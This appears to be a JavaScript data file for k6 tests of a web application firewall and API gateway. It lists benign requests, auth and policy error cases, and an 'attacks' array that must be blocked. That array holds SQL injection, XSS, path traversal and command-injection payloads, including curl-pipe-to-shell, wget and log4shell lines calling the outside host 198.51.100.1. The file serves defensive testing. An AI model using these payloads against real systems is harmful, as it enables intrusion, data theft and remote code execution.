// The requests of the scripts, as data: what is sent, and in `expected` the one right answer.

import { sleep } from 'k6';
import { bearer, ready } from './gateway.js';

const json = { 'Content-Type': 'application/json' };
const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
const passes = { status: 200 };
const blocked = { status: 403, code: 'waf.blocked' };

const query = (name, value) => ({
  name,
  path: `/products/7?q=${encodeURIComponent(value)}`,
  expected: blocked,
});
const comment = (name, value) => ({
  name,
  method: 'POST',
  path: '/comments',
  headers: json,
  body: JSON.stringify({ author: 'Ann', text: value }),
  expected: blocked,
});

// Visitors without a token. Some of it looks like an attack to careless rules: those must pass as well.
export const browse = [
  { name: 'page', path: '/products/7', expected: passes },
  { name: 'search', path: '/products/search?q=garden+table&sort=price&page=2', expected: passes },
  { name: "O'Brien", path: '/products/search?q=O%27Brien%20%26%20Sons', expected: passes },
  { name: 'select a union', path: '/products/search?q=how+to+select+a+union+representative', expected: passes },
  { name: 'less than', path: '/products/search?q=price+%3C+20', expected: passes },
  { name: 'unicode', path: '/products/search?q=%C3%A9t%C3%A9+%E6%97%A5%E6%9C%AC', expected: passes },
  {
    name: 'comment',
    method: 'POST',
    path: '/comments',
    headers: json,
    body: JSON.stringify({ author: 'Ann', text: "It's great - 10/10; would buy again (and again)!" }),
    expected: passes,
  },
  {
    name: 'long comment',
    method: 'POST',
    path: '/comments',
    headers: json,
    body: JSON.stringify({ author: 'Bob', text: 'please wrap it as a gift. '.repeat(300) }),
    expected: passes,
  },
];

// Programs with tokens: each kind of answer that identity and policy give.
export const api = [
  { name: 'order', path: '/v1/orders/7', headers: bearer('full'), expected: passes },
  {
    name: 'refund',
    method: 'POST',
    path: '/v1/orders/7/refund',
    headers: { ...bearer('full'), ...json },
    body: '{"reason":"arrived broken","amount":19.9}',
    expected: passes,
  },
  { name: 'no token', path: '/v1/orders/7', expected: { status: 401, code: 'identity.missing' } },
  {
    name: 'not a token',
    path: '/v1/orders/7',
    headers: { Authorization: 'Bearer nonsense' },
    expected: { status: 401, code: 'identity.malformed' },
  },
  {
    name: 'no scope',
    path: '/v1/orders/7',
    headers: bearer('no_scope'),
    expected: { status: 403, code: 'policy.scope' },
  },
  {
    name: 'no second factor',
    method: 'POST',
    path: '/v1/orders/7/refund',
    headers: { ...bearer('no_mfa'), ...json },
    body: '{}',
    expected: { status: 401, code: 'policy.step_up' },
  },
  { name: 'no route', path: '/v2/orders', expected: { status: 404, code: 'route.not_found' } },
  { name: 'no method', method: 'DELETE', path: '/v1/orders/7', expected: { status: 405, code: 'route.method_not_allowed' } },
];

// Attacks without dispute, over every place in which one can travel.
export const attacks = [
  query('sqli: tautology', "1' OR '1'='1' -- "),
  query('sqli: union', "7 UNION SELECT username, password FROM users--"),
  query('sqli: stacked', "1; DROP TABLE users; --"),
  query('sqli: time', "1' AND SLEEP(5)-- -"),
  query('xss: script', '<script>alert(document.cookie)</script>'),
  query('xss: handler', '<img src=x onerror=alert(1)>'),
  query('xss: svg', '<svg/onload=alert(1)>'),
  query('traversal', '../../../../etc/passwd'),
  query('rce: shell', '; cat /etc/passwd'),
  query('rce: substitution', '$(curl http://198.51.100.1/x|sh)'),
  query('log4shell', '${jndi:ldap://198.51.100.1/a}'),
  comment('json: sqli', "x' UNION SELECT password FROM users -- "),
  comment('json: xss', '<script src=//198.51.100.1/x.js></script>'),
  comment('json: rce', '`wget http://198.51.100.1/x -O /tmp/x`'),
  {
    name: 'form: sqli',
    method: 'POST',
    path: '/comments',
    headers: form,
    body: 'author=Ann&text=1%27+OR+%271%27%3D%271%27+--+',
    expected: blocked,
  },
  {
    name: 'token does not excuse',
    path: "/v1/orders/7?note=1%27%20OR%20%271%27%3D%271%27%20--%20",
    headers: bearer('full'),
    expected: blocked,
  },
  {
    name: 'cookie: sqli',
    path: '/products/7',
    headers: { Cookie: "session=1' UNION SELECT password FROM users--" },
    expected: blocked,
  },
  {
    name: 'late in a large body',
    method: 'POST',
    path: '/comments',
    headers: json,
    body: JSON.stringify({ text: 'x'.repeat(60000), last: "1' OR '1'='1' -- " }),
    expected: blocked,
  },
];

// The route with a limit of its own: five at once, then one in two seconds.
export const limited = { name: 'limited', path: '/burst' };
export const burst = 5;
export const period_ms = 2000;
// How long an empty bucket takes to be full again.
export const refill_s = (burst * period_ms) / 1000 + 0.5;

// A setup for scripts that count on a full bucket: whoever was here before may have left it empty.
export function rested() {
  ready();
  sleep(refill_s);
}
